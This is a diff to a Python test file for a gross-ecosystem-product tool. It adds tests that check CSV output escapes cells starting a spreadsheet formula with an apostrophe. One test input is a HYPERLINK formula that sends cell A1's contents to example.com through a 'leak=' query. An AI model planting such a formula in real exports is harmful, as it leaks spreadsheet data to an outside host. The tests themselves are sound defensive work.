@@ -4,6 +4,7 @@ whose zip headers lie about their size.
 Runs use the tiny inventory of conftest.py (two townships, 2020–2021), not Chengkou, to stay fast."""
 from __future__ import annotations
 
+import csv
 import json
 import os
 import socket
@@ -12,11 +13,16 @@ import sys
 import time
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
+from gep.audit import verify
 from gep.cli import main
-from gep.outputs import STAGING_MARKER
+from gep.explain import explain_text
+from gep.outputs import STAGING_MARKER, cell_texts, write_csv
 from gep.run import remove_stale_staging, staged
+
+from conftest import tiny_tables, write_tables
 
 # ----------------------------------------------------------------------------------------------
 # staging folders of killed runs
@@ -108,3 +114,74 @@ def test_published_run_has_no_marker_and_reruns_are_byte_identical(tmp_path, tin
     mb = json.loads((b / "manifest.json").read_text(encoding="utf-8"))
     assert not any(STAGING_MARKER in name for name in ma["outputs"])
     assert ma["outputs"] == mb["outputs"] and ma["inputs"] == mb["inputs"]
+
+
+# ----------------------------------------------------------------------------------------------
+# formulas in CSV cells
+
+
+def test_text_cells_that_start_a_formula_get_an_apostrophe(tmp_path):
+    # OWASP's rule: a text cell beginning with = + - @ tab or carriage return is a formula to Excel; an
+    # apostrophe first makes it text. Numbers are not text: -1.5 stays a number, in a numeric column or not.
+    texts = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "ok", "x=1", "'x", "'=x", None]
+    frame = pd.DataFrame({"text": texts, "number": [-1.5] * len(texts),
+                          "mixed": pd.Series([-1.5, "-2"] + ["x"] * (len(texts) - 2), dtype=object),
+                          "boxed": pd.Series([-1.5] * len(texts), dtype=object)})  # numbers held as objects
+    path = tmp_path / "t.csv"
+    write_csv(frame, path)
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["text", "number", "mixed", "boxed"]
+    # "'=x" already begins with an apostrophe but would read back as "=x" once one apostrophe is removed, so
+    # it gets one more; "'x" and "x=1" start no formula and stay as they are; an empty cell stays empty
+    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "ok", "x=1", "'x", "''=x", ""]
+    assert {r[1] for r in rows[1:]} == {r[3] for r in rows[1:]} == {"-1.5"}
+    assert [r[2] for r in rows[1:3]] == ["-1.5", "'-2"]  # a number in a text column stays one; text "-2" does not
+    # the carriage return is inside quotes, so the file still has one line per row
+    assert len(path.read_bytes().split(b"\n")) == len(texts) + 2
+    # read back, every text is what was written, the apostrophes added removed
+    back = cell_texts(pd.read_csv(path, keep_default_na=False, na_values=[""]))
+    assert back["text"].tolist()[:-1] == texts[:-1] and pd.isna(back["text"].iloc[-1])
+
+
+def test_a_file_without_such_cells_is_written_as_before(tmp_path):
+    # the Chengkou outputs hold no text starting a formula (only negative numbers), so they stay byte-identical
+    frame = pd.DataFrame({"region_name": ["甲镇", "乙乡"], "change_yuan": [-170582166.12357903, 2.0],
+                          "note": ["", "a, \"quoted\" note"]})
+    path = tmp_path / "t.csv"
+    write_csv(frame, path)
+    before = frame.to_csv(index=False, lineterminator="\n").encode("utf-8")
+    assert path.read_bytes() == before
+
+
+HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
+
+
+def test_a_region_named_like_a_formula_is_safe_and_the_run_still_verifies(tmp_path):
+    # township 990001 named like a formula, and coded -990001: both are text that starts a formula
+    tables = tiny_tables()
+    tables = {name: [{c: "-990001" if v == "990001" else v for c, v in row.items()} for row in rows]
+              for name, rows in tables.items()}
+    tables["regions"][1]["name"] = HYPERLINK
+    inventory = write_tables(tmp_path / "tiny", tables)
+    out = tmp_path / "out"
+    assert main(["run", str(inventory), "--out", str(out)]) == 0
+    with open(out / "gep_services.csv", newline="", encoding="utf-8") as fh:
+        names = {row["region_code"]: row["region_name"] for row in csv.DictReader(fh)}
+    assert names == {"'-990001": "'" + HYPERLINK, "990002": "乙乡", "990000": "示例县"}  # text in Excel, not run
+    # gep reads its own output back: verify compares it figure by figure, explain finds and prints the text as given
+    assert verify(out).ok
+    text = explain_text(out, "-990001", 2020, "water_conservation", "water_retained", "forest", lang="en")
+    assert text.startswith(HYPERLINK + " -990001 · 2020")
+    assert "\nInputs:\n" in text and "\nSteps:\n" in text  # the township's own trace, found by its code
+    # a differing figure is named by its key as given, not as written for spreadsheets
+    with open(out / "gep_services.csv", newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    key = [header.index(c) for c in ("region_code", "year", "indicator", "ecosystem")]
+    altered = next(r for r in rows if [r[i] for i in key] == ["'-990001", "2020", "water_retained", "forest"])
+    altered[header.index("quantity")] = "1.0"
+    with open(out / "gep_services.csv", "w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh, lineterminator="\n").writerows([header, *rows])
+    result = verify(out)
+    assert [d[:3] for d in result.differing] == [
+        ("gep_services.csv -990001/2020/water_conservation/water_retained/forest", "quantity", "1.0")]
